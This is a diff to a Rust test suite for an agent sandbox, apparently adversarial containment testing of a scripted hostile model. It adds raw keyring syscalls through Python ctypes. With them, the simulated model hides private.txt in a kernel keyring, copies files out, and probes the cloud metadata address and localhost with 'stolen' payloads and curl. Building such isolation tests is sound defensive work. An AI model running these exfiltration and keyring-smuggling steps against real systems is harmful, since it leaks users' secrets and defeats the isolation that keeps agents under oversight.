@@ -20,6 +20,18 @@ use crate::world::{World, app_spec, edit, finish, off_by_one, owned, read, run, 
 const CANARY: &str = "GANDER_TWIN_CANARY";
 const NEIGHBOUR: &str = "acme/neighbour";
 
+/// Calls the kernel by number, as neither Python nor the shell knows of keys.
+const KEYS: &str = r#"
+import ctypes, os, platform, sys
+libc = ctypes.CDLL(None, use_errno=True)
+ADD, CTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
+text = ctypes.create_string_buffer(99)
+def call(*words):
+    answer = libc.syscall(*words)
+    return answer if answer >= 0 else -ctypes.get_errno()
+def keep(name, secret): return call(ADD, b"user", name, secret, len(secret), -3)
+"#;
+
 /// Everything that a command can try, and print. Left out, because it differs with the process and
 /// not with its secrets: the number of the descriptor bubblewrap reads, and in mountinfo the numbers
 /// and the random name of the scratch directory.
@@ -50,6 +62,11 @@ for host in ("127.0.0.1", "169.254.169.254", "localhost", "example.org"):
     try:
         s = socket.create_connection((host, {port}), 2); s.send(b"stolen"); print("connected")
     except OSError as e: print(type(e).__name__)
+'
+        python3 -c '{KEYS}
+for name in b"gander-twin", b"gander-neighbour":
+    key = call(CTL, 10, -3, b"user", name, 0)
+    print("key", ctypes.string_at(text, call(CTL, 11, key, text, 99)) if key > 0 else key)
 '
         curl -m 2 -s http://127.0.0.1:{port}/stolen http://169.254.169.254/latest/meta-data
         true"#
@@ -114,7 +131,8 @@ fn whatever_the_model_tries_the_secrets_make_no_difference() {
     }
     assert_eq!(lines.len(), others.len());
     assert!(!one.contains("canary-"), "a secret left, in both runs");
-    for loot in ["loot.txt", "PATH=", "uid=", "/work rw", "No such file"] {
+    // ENOKEY, or ENOSYS where the kernel has none.
+    for loot in ["loot.txt", "PATH=", "uid=", "/work rw", "No such file", "key -"] {
         assert!(one.contains(loot), "the thief did not even try: no {loot}");
     }
 
@@ -129,7 +147,14 @@ fn whatever_the_model_tries_the_secrets_make_no_difference() {
 /// Lives the story in a process of its own; returns all that left it.
 fn live_as(canary: &str, host: &Path, port: u16) -> String {
     let left = host.join("left");
-    let status = Command::new(std::env::current_exe().unwrap())
+    // Its session has a keyring of its own, with the secret in it. A kernel has none: so be it.
+    let session = format!(
+        "{KEYS}\ncall(CTL, 1, 0, 0, 0, 0)\nkeep(b'gander-twin', os.environb[b'{CANARY}'])\n\
+         os.execv(sys.argv[1], sys.argv[1:])"
+    );
+    let status = Command::new("/usr/bin/python3")
+        .args(["-c", &session])
+        .arg(std::env::current_exe().unwrap())
         .args(["--exact", "hostile_model::the_twin", "--ignored", "--nocapture"])
         .env(CANARY, canary)
         .env("GANDER_TWIN_HOST", host)
@@ -170,6 +195,9 @@ async fn the_twin() {
     w.model.will(vec![
         edit("count.sh", "$1 - 1", "$1"),
         run("cp -r . /tmp/kept; cp private.txt $HOME"),
+        run(&format!(
+            "python3 -c '{KEYS}\nkeep(b\"gander-neighbour\", open(\"private.txt\", \"rb\").read())'"
+        )),
         finish("done"),
     ]);
     let theirs = w.maintainer().opens_issue(NEIGHBOUR, &canary, &canary, &[]).unwrap();
@@ -196,7 +224,7 @@ async fn the_twin() {
     sent.chunk_by_mut(|a, b| question(a) && question(b)).for_each(<[_]>::sort_unstable);
     let mut lines = sent.concat();
     // What the model was told left for its provider.
-    lines.extend(w.model.heard().split_off(3));
+    lines.extend(w.model.heard().split_off(4));
     let web = w.emulator.web_url();
     let port = web.port().unwrap().to_string();
     let data = w.data().canonicalize().unwrap();
